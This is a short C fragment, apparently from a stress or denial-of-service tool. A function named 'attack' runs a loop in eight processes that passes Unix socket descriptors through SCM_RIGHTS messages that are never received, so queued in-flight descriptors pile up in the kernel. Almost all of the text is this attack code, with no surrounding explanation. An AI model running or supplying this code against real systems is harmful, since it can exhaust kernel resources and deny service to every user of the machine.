/* Sends descriptors that are never received: sockets in which further descriptors are queued. */
static void work(void) {
    union { struct cmsghdr header; char room[CMSG_SPACE(sizeof(int))]; } control;
    char byte = 0;
    struct iovec content = { &byte, 1 };
    struct msghdr message = { .msg_iov = &content, .msg_iovlen = 1, .msg_control = &control,
                              .msg_controllen = sizeof control };
    int last[2] = { -1, -1 };
    while (!is_over()) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) break;
        if (last[0] >= 0) {
            control.header = (struct cmsghdr){ CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
            memcpy(CMSG_DATA(&control.header), &last[1], sizeof(int));
            if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0) break;
            add(&shared->count, 1);
            close(last[0]);
            close(last[1]);
        }
        last[0] = pair[0];
        last[1] = pair[1];
    }
}
static void attack(void) { in_processes(8, work); }
